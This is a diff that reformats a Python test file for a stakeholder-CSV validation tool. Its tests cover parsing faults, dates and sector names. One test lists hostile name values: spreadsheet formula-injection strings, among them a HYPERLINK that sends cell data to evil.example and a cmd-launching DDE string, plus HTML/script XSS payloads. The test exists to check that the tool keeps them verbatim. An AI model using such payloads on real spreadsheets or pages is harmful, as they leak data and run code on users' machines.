@@ -13,7 +13,9 @@ from sysmap.tables.rows import Dataset
 from sysmap.vocabulary import VOCABULARY
 
 HERE = Path(__file__).parent / "nasty"
-EXPECTED = {name: entry for name, entry in json.loads((HERE / "EXPECTED.json").read_text("utf-8")).items() if name[0].isdigit()}
+EXPECTED = {
+    name: entry for name, entry in json.loads((HERE / "EXPECTED.json").read_text("utf-8")).items() if name[0].isdigit()
+}
 
 
 def examined(name: str, folder: Path, *, strict: bool = False) -> Dataset:
@@ -40,9 +42,15 @@ def test_exit_rows_and_lines(name: str, tmp_path: Path) -> None:
         assert len(dataset.nodes) == entry["rows"]
 
 
-@pytest.mark.parametrize(("name", "faulty"), [
-    ("02_semicolon_decimal_comma.csv", {3}), ("05_duplicate_ids.csv", {5}), ("06_dangling_partnerships.csv", {3, 4}), ("12_nul_bytes.csv", {2}),
-])
+@pytest.mark.parametrize(
+    ("name", "faulty"),
+    [
+        ("02_semicolon_decimal_comma.csv", {3}),
+        ("05_duplicate_ids.csv", {5}),
+        ("06_dangling_partnerships.csv", {3, 4}),
+        ("12_nul_bytes.csv", {2}),
+    ],
+)
 def test_no_fault_where_none_is(name: str, faulty: set[int], tmp_path: Path) -> None:
     assert {fault.line for fault in examined(name, tmp_path).errors} == faulty
 
@@ -86,13 +94,20 @@ def test_06_nearest_ids_and_no_ghost(tmp_path: Path) -> None:
     assert set(props(dataset)) == {"S1", "S2"}
     assert "S1" in next(str(fault.remedy) for fault in dataset.errors if "S999" in str(fault.problem))
     assert [tie.uid for tie in dataset.ties] == ["PARTNERS_WITH:stakeholder:S1>stakeholder:S2#MoU"]
-    assert [str(fault.problem) for fault in dataset.warnings if fault.line == 5] == ["repeats line 2; the same tie counts once"]
+    assert [str(fault.problem) for fault in dataset.warnings if fault.line == 5] == [
+        "repeats line 2; the same tie counts once"
+    ]
 
 
 def test_07_physical_lines_after_quoted_newlines(tmp_path: Path) -> None:
     description = str(props(examined("07_quoted_newlines.csv", tmp_path))["P1"]["description"])
     assert description.splitlines() == ["Kurang gizi kronis.", "Penyebab:", "- sanitasi", '- "pola asuh"']
-    text = (HERE / "07_quoted_newlines.csv").read_bytes().replace(b"id,name,description", b"id,name,description,severity").replace(b'kemarau"', b'kemarau",9')
+    text = (
+        (HERE / "07_quoted_newlines.csv")
+        .read_bytes()
+        .replace(b"id,name,description", b"id,name,description,severity")
+        .replace(b'kemarau"', b'kemarau",9')
+    )
     (tmp_path / "problems.csv").write_bytes(text)
     assert [fault.line for fault in examine_folder(tmp_path, VOCABULARY).errors] == [6]
 
@@ -113,7 +128,15 @@ def test_08_dates(tmp_path: Path) -> None:
 def test_09_known_sectors_are_told_from_unknown_ones(tmp_path: Path) -> None:
     dataset = examined("09_mixed_case_types.csv", tmp_path)
     sectors = {id: one.get("sector") for id, one in props(dataset).items()}
-    assert sectors == {"S1": "government", "S2": "government", "S3": "GOVERMENT", "S4": "government", "S5": "NGO", "S6": "N.G.O.", "S7": None}
+    assert sectors == {
+        "S1": "government",
+        "S2": "government",
+        "S3": "GOVERMENT",
+        "S4": "government",
+        "S5": "NGO",
+        "S6": "N.G.O.",
+        "S7": None,
+    }
     assert next(str(fault.remedy) for fault in dataset.warnings if fault.line == 4) == "did you mean government?"
     assert {fault.line for fault in dataset.warnings} == {4, 6, 7}
     assert {fault.line for fault in examined("09_mixed_case_types.csv", tmp_path, strict=True).errors} == {4, 6, 7}
@@ -121,8 +144,15 @@ def test_09_known_sectors_are_told_from_unknown_ones(tmp_path: Path) -> None:
 
 def test_11_hostile_names_are_kept_exactly(tmp_path: Path) -> None:
     names = [one["name"] for one in props(examined("11_formula_and_html_injection.csv", tmp_path)).values()]
-    assert names == ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1",
-                     "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>", "-2+3"]
+    assert names == [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd",
+        "\t=1+1",
+        "<img src=x onerror=alert(1)>",
+        "</script><script>alert(2)</script>",
+        "-2+3",
+    ]
 
 
 def test_12_the_byte_is_named_and_other_lines_are_read(tmp_path: Path) -> None:
